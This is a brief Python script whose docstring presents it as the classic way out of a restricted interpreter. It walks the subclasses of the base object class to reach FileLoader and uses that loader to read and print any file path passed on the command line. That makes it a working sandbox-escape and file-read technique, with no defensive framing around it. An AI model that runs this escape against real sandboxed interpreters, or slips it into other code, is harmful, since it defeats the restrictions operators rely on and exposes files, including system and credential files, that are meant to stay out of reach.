"""The classic way out of a restricted interpreter: every class that is loaded."""

import sys

for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == "FileLoader":
        print(kind("x", sys.argv[1]).get_data(sys.argv[1]).decode())
        break
else:
    sys.exit(1)
